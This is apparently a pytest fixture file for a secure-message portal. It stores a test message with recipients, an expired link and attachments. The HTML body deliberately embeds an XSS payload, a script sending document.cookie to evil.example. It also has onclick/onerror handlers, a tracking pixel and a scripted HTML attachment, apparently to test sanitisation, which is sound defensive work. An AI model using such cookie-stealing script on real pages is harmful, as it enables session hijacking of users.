"""Portal fixtures: a stored message built straight in the database and vault (no intake).

One message from Alice to bob (To) and carol (Cc) in one conversation, each with a link; bob
also has an expired link. The readable form has a text body, an HTML body with a <script>
and an onclick, and two attachments: a small HTML file with a non-ASCII name and 200 KB of
random bytes.
"""

from __future__ import annotations

import os
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import httpx
import pytest

from sealgate.bootstrap import Runtime, open_runtime
from sealgate.intake.readable import Attachment, ReadableMessage
from tests.conftest import Sender, make_settings
from tests.portal.guest import GuestBrowser, portal_client
from tests.portal.recipients import Guest, Spec, add_link, store_readable

SUBJECT = "Lab results for March"
TEXT_BODY = "Dear Bob,\n\nyour lab results are attached.\n\nKind regards,\nAlice"
HTML_BODY = (
    '<p onclick="steal()">Dear Bob, your <b>lab results</b> are attached.</p>'
    "<script>document.location='https://evil.example/?'+document.cookie</script>"
    '<img src="https://tracker.example/pixel.gif" onerror="steal()">'
)
HTML_ATTACHMENT = b"<html><script>alert('attachment')</script><p>Overview</p></html>"
HTML_ATTACHMENT_NAME = 'Übersicht "März".html'
BOB = "bob@example.org"
CAROL = "carol@example.net"


@dataclass(frozen=True)
class StoredMessage:
    bob: Guest
    carol: Guest
    expired_token: str
    readable: ReadableMessage
    attachments: tuple[bytes, ...]


def store_message(rt: Runtime, sender: Sender) -> StoredMessage:
    binary = os.urandom(200 * 1024)
    contents = (HTML_ATTACHMENT, binary)
    readable = ReadableMessage(
        subject=SUBJECT,
        sender=f"{sender.name} <{sender.address}>",
        to=(BOB,),
        cc=(CAROL,),
        date="Tue, 03 Mar 2026 10:00:00 +0100",
        text=TEXT_BODY,
        html=HTML_BODY,
        attachments=(
            Attachment(
                HTML_ATTACHMENT_NAME,
                "text/html",
                len(HTML_ATTACHMENT),
                rt.vault.put_bytes(HTML_ATTACHMENT),
            ),
            Attachment(
                "scan.bin",
                "application/octet-stream",
                len(binary),
                rt.vault.put([binary[i : i + 65536] for i in range(0, len(binary), 65536)]),
            ),
        ),
    )
    guests = store_readable(rt, sender, readable, [Spec(BOB), Spec(CAROL, role="cc")])
    with rt.db.begin() as session:
        expired = add_link(session, guests[BOB].recipient_id, timedelta(seconds=-1))
    return StoredMessage(guests[BOB], guests[CAROL], expired, readable, contents)


@pytest.fixture
def stored(runtime: Runtime, sender: Sender) -> StoredMessage:
    return store_message(runtime, sender)


@pytest.fixture
async def client(runtime: Runtime) -> AsyncIterator[httpx.AsyncClient]:
    async with portal_client(runtime) as client:
        yield client


@pytest.fixture
def browser(client: httpx.AsyncClient) -> GuestBrowser:
    return GuestBrowser(client)


@pytest.fixture
def sender_factory(tmp_path: Path, database_url, tls_files) -> Iterator:
    """A runtime with extra settings, and the Hospital sender in it."""
    opened: list[Runtime] = []

    def make(**env: str) -> tuple[Runtime, Sender]:
        from sealgate.directory import (
            CREDENTIAL_KEY_PURPOSE,
            add_account,
            create_credential,
            create_org,
        )

        rt = open_runtime(make_settings(tmp_path, database_url, tls_files, **env), create=True)
        opened.append(rt)
        with rt.db.begin() as session:
            create_org(session, "Hospital", ["hospital.example"])
            add_account(session, "alice@hospital.example", "Hospital", "alice-pw", "Alice Arts")
            credential, password = create_credential(
                session, "Hospital", "tests", key=rt.subkey(CREDENTIAL_KEY_PURPOSE)
            )
        return rt, Sender(
            "Hospital", "alice@hospital.example", "Alice Arts", credential.username, password
        )

    yield make
    for rt in opened:
        rt.close()
